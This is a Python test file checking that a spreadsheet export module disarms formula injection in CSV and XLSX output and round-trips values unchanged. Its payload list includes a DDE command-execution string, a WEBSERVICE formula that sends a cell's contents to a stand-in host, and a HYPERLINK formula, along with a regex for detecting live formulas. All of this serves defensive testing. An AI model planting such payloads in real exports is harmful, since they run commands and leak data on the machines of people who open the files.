"""What goes out to a spreadsheet runs nothing there, and comes back as it was."""

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from allay_metrics.intake.table_formats import open_table
from allay_metrics.spreadsheet import Export, format_csv, format_rows, format_xlsx, quote, unquote

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\tx",
    "\rx",
    "\t=1+1",
    "\r=1+1",
    "  =cmd|' /C calc'!A0",
    '"=HYPERLINK(""http://e.example"",""x"")',
    "'=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    '=WEBSERVICE("http://e.example/"&A1)',
    "+1-415-555-0100",
]
# What a spreadsheet looks at first: the sign, behind whatever it skips.
LIVE = re.compile('[\\s"\u201c\u201d\u00ab\u200b\ufeff]*[=+\\-@\uff1d\uff0b\uff0d\uff20\t\r]')
HARMLESS = ["-5", "+3", "-1,234.50", "-71%", "+14155550100", "+1 (415) 555-0100", "Zoë", "a=b", ""]


def exported(*texts):
    about = (("Export", "=1+1"), ("Records as of", "Mon 16 Nov 2026"))
    return Export(about, ("Text", "=Head"), [(text, 1) for text in texts])


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_payload_is_live_in_csv(text):
    rows = list(csv.reader(io.StringIO(format_csv(exported(text)).decode("utf-8-sig"), newline="")))
    assert [cell for row in rows for cell in row if LIVE.match(cell)] == []
    assert rows[-1][0] == f"'{text}"


def test_no_payload_is_live_in_a_workbook():
    with zipfile.ZipFile(io.BytesIO(format_xlsx(exported(*PAYLOADS)))) as book:
        parts = {name: book.read(name).decode() for name in book.namelist()}
    assert [name for name, xml in parts.items() if re.search(r"<f[ >/]|<hyperlink", xml)] == []
    texts = re.findall(r"<t[^>]*>([^<]*)</t>", parts["xl/sharedStrings.xml"])
    assert len(texts) >= len(PAYLOADS)
    assert [text for text in texts if LIVE.match(text)] == []


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_phones_and_plain_words_are_left_as_they_are(text):
    assert quote(text) == text


@given(st.text(st.characters(exclude_categories=("Cs",)), max_size=30))
def test_whatever_text_goes_out_comes_back(text):
    assert unquote(quote(text)) == text


@given(st.text("'=+-@\t\r \u201c\uff1d1x", max_size=8))
def test_even_of_signs_and_quotation_marks_alone(text):
    assert unquote(quote(text)) == text


def test_an_apostrophe_of_another_program_is_taken_off_a_phone():
    assert unquote("'+14155550100") == "+14155550100"
    assert unquote("'til noon") == "'til noon"


def test_values_keep_their_kind(tmp_path):
    moment = datetime(2026, 11, 16, 9, 0, tzinfo=UTC)
    row = (True, 3, 2.5, None, date(2026, 11, 16), moment, "0042")
    heads = ("a", "b", "c", "d", "e", "f", "g")
    text = format_rows(heads, [row]).splitlines()[1]
    assert text == "yes,3,2.5,,2026-11-16,2026-11-16T09:00:00+00:00,0042"
    path = tmp_path / "export.xlsx"
    path.write_bytes(format_xlsx(Export((), heads, [row])))
    told = open_table(path)[0].first()[1]
    assert told == ["true", "3", "2.5", "", "2026-11-16", "2026-11-16 09:00:00", "0042"]


def test_what_it_is_about_stands_above_the_table_and_beside_it(tmp_path):
    for name, write in (("export.csv", format_csv), ("export.xlsx", format_xlsx)):
        path = tmp_path / name
        path.write_bytes(write(exported("x")))
        records = open_table(path)[0].first()
        assert records[-2:] == [["Text", "'=Head"], ["x", "1"]]
    assert records[0] == ["Text", "'=Head"]
